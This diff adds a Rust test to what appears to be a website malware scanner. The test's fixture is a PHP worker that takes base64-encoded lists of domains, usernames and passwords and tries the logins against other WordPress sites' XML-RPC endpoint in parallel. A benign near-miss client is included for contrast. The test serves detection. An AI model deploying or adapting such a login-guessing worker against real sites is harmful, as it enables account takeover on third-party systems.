@@ -532,3 +532,19 @@ fn a_proxy_or_a_plugin_posting_to_a_written_address_is_not_a_skimmer() {
                  curl_setopt($c, CURLOPT_POSTFIELDS, ['site' => $_SERVER['HTTP_HOST']]); curl_exec($c); }";
     assert!(!found(asked).contains(&Why::SendsRequestToHiddenAddress));
 }
+
+#[test]
+fn logins_tried_on_other_sites_xmlrpc_in_parallel_are_an_attack_from_here() {
+    // fresh18's worker: a job of sites, users and passwords posted as base64 JSON, each tried
+    // with `wp.getUsersBlogs` through `curl_multi`.
+    let worker = "<?php $job = json_decode(base64_decode(file_get_contents('php://input')), true); $mh = curl_multi_init(); \
+                  foreach ($job['data'] as $i => $d) { $x = '<?xml version=\"1.0\"?><methodCall><methodName>wp.getUsersBlogs</methodName>' \
+                  . '<params><param><value><string>' . $d['user'] . '</string></value></param></params></methodCall>'; \
+                  $c[$i] = curl_init($d['domain']); curl_setopt($c[$i], CURLOPT_POSTFIELDS, $x); curl_multi_add_handle($mh, $c[$i]); } \
+                  do { curl_multi_exec($mh, $run); } while ($run > 0);";
+    assert!(found(worker).contains(&Why::NetworkFromInput), "{:?}", found(worker));
+    // Near-miss: a client posting to the owner's own blog with the settings' login.
+    let client = "<?php $x = '<methodCall><methodName>wp.getUsersBlogs</methodName></methodCall>'; \
+                  $c = curl_init(get_option('remote_blog')); curl_setopt($c, CURLOPT_POSTFIELDS, $x); curl_exec($c);";
+    assert!(!found(client).contains(&Why::NetworkFromInput), "{:?}", found(client));
+}
